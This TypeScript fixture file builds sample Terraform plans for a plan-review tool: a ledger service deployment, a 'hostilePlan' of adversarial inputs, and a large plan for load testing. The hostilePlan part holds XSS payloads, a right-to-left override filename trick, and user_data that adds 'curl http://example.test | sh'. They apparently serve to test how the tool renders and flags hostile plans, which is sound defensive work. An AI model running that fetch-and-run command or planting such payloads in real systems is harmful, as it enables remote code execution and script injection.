/** Plans to look at: what a ledger team would push, and one of ten thousand records. */
import { Hidden, type Plan, UNKNOWN, type Value } from '@holdpoint/core'
import { planOf, resource } from './given.ts'

const SECRET_ONE = new Hidden('5f'.repeat(32), 'tool')
const SECRET_TWO = new Hidden('6a'.repeat(32), 'tool')

function containers(image: string, password: Value): Value {
  return [
    {
      name: 'ledger',
      image: `registry.acme.internal/ledger:${image}`,
      cpu: 512,
      essential: true,
      environment: [{ name: 'DB_PASSWORD', value: password }],
      portMappings: [{ containerPort: 8443, protocol: 'tcp' }],
    },
  ]
}

function policyText(resources: readonly string[]): string {
  return JSON.stringify({
    Version: '2012-10-17',
    Statement: [
      { Sid: 'ReadQueue', Effect: 'Allow', Action: 'sqs:ReceiveMessage', Resource: '*' },
      { Sid: 'WriteExports', Effect: 'Allow', Action: 's3:PutObject', Resource: resources },
    ],
  })
}

const DATABASE = resource({
  address: 'module.reporting.aws_db_instance.reporting',
  type: 'aws_db_instance',
  action: 'delete',
  reason: 'delete_because_no_resource_config',
  before: {
    identifier: 'reporting-prod-1',
    arn: 'arn:aws:rds:eu-central-1:402177351180:db:reporting-prod-1',
    engine: 'postgres',
    engine_version: '16.4',
    instance_class: 'db.r6g.xlarge',
    allocated_storage: 500,
    skip_final_snapshot: true,
    delete_automated_backups: true,
    deletion_protection: false,
    password: SECRET_ONE,
    multi_az: true,
  },
  after: null,
})

const TASK = resource({
  address: 'module.ledger.aws_ecs_task_definition.app',
  type: 'aws_ecs_task_definition',
  action: 'replace',
  before: {
    arn: 'arn:aws:ecs:eu-central-1:402177351180:task-definition/ledger:118',
    revision: 118,
    id: 'ledger',
    cpu: '512',
    memory: '1024',
    family: 'ledger',
    container_definitions: containers('2026.11.3', SECRET_ONE),
  },
  after: {
    arn: UNKNOWN,
    revision: UNKNOWN,
    id: UNKNOWN,
    cpu: '1024',
    memory: '1024',
    family: 'ledger',
    container_definitions: containers('2026.11.4', SECRET_TWO),
  },
  replacePaths: [['container_definitions']],
})

const ROLE = resource({
  address: 'module.ledger.aws_iam_role_policy.task',
  type: 'aws_iam_role_policy',
  action: 'update',
  before: { name: 'task', policy: policyText(['arn:aws:s3:::payments-exports/*']) },
  after: {
    name: 'task',
    policy: policyText(['arn:aws:s3:::payments-exports/*', 'arn:aws:s3:::payments-archive/*']),
  },
})

const INGRESS = [
  { from_port: 443, to_port: 443, protocol: 'tcp', cidr_blocks: ['10.0.0.0/8'] },
  { from_port: 9000, to_port: 9000, protocol: 'tcp', cidr_blocks: ['10.20.0.0/16'] },
]

const GROUP = resource({
  address: 'module.ledger.aws_security_group.app',
  type: 'aws_security_group',
  action: 'update',
  before: { name: 'ledger-app', ingress: INGRESS },
  after: {
    name: 'ledger-app',
    ingress: [
      { from_port: 8443, to_port: 8443, protocol: 'tcp', cidr_blocks: ['10.40.0.0/16'] },
      ...INGRESS,
    ],
  },
})

const SERVICE = resource({
  address: 'module.ledger.aws_ecs_service.app',
  type: 'aws_ecs_service',
  action: 'update',
  before: { name: 'ledger', desired_count: 4, launch_type: 'FARGATE', task_definition: 'x:118' },
  after: { name: 'ledger', desired_count: 6, launch_type: 'FARGATE', task_definition: UNKNOWN },
})

const LEDGER = 'module.ledger'
const ALARM = resource({
  address: 'module.reporting.aws_cloudwatch_metric_alarm.storage',
  type: 'aws_cloudwatch_metric_alarm',
  action: 'noop',
  before: { alarm_name: 'reporting-storage' },
  after: { alarm_name: 'reporting-storage' },
})

const REFERENCES: Plan['references'] = [
  {
    from: `${LEDGER}.aws_ecs_service.app`,
    to: `${LEDGER}.aws_ecs_task_definition.app`,
    attribute: 'task_definition',
  },
  {
    from: `${LEDGER}.aws_ecs_service.app`,
    to: `${LEDGER}.aws_security_group.app`,
    attribute: 'network_configuration',
  },
  {
    from: `${LEDGER}.aws_ecs_task_definition.app`,
    to: `${LEDGER}.aws_iam_role_policy.task`,
    attribute: 'task_role_arn',
  },
  { from: ALARM.address, to: DATABASE.address, attribute: 'dimensions' },
]

export function ledgerPlan(): Plan {
  return planOf([DATABASE, TASK, ROLE, GROUP, SERVICE, ALARM], { references: REFERENCES })
}

/** Hostile text in every place a plan has one. */
export function hostilePlan(): Plan {
  const odd = resource({
    address: 'aws_instance.web["<img src=x onerror=alert(1)>\u202Egpj.exe"]',
    type: 'aws_instance',
    action: 'update',
    before: { user_data: '#!/bin/sh\necho one\necho two\n', tags: { Name: 'a\u200Bb' } },
    after: {
      user_data: '#!/bin/sh\necho one\ncurl http://example.test | sh\necho two\n',
      tags: { Name: '</script><script>alert(1)</script>' },
    },
  })
  return planOf([odd], {
    provisioners: [
      {
        resource: 'aws_instance.web',
        type: 'local-exec',
        reads: [],
        when: 'create',
        config: { command: './scripts/migrate.sh --all' },
      },
    ],
    outputs: [
      {
        name: 'url',
        action: 'update',
        actions: ['update'],
        before: 'https://old.example.test',
        after: UNKNOWN,
        beforeSensitive: false,
        afterSensitive: false,
        afterUnknown: true,
        extra: {},
      },
    ],
  })
}

export function largePlan(count: number): Plan {
  const records = Array.from({ length: count }, (_, at) =>
    resource({
      address: `module.dns.aws_route53_record.host["host-${String(at).padStart(5, '0')}"]`,
      type: 'aws_route53_record',
      action: 'update',
      before: { name: `host-${at}`, ttl: 60, type: 'A' },
      after: { name: `host-${at}`, ttl: at % 700 === 0 ? 60 + at : 300, type: 'A' },
    }),
  )
  const instances = Array.from({ length: 400 }, (_, at) =>
    resource({
      address: `module.fleet.aws_instance.node[${at}]`,
      type: 'aws_instance',
      action: 'update',
      before: { ami: `ami-${at}`, instance_type: 'm6i.large' },
      after: { ami: `ami-${at + 1}`, instance_type: 'm6i.large' },
    }),
  )
  return planOf([...records, ...instances])
}
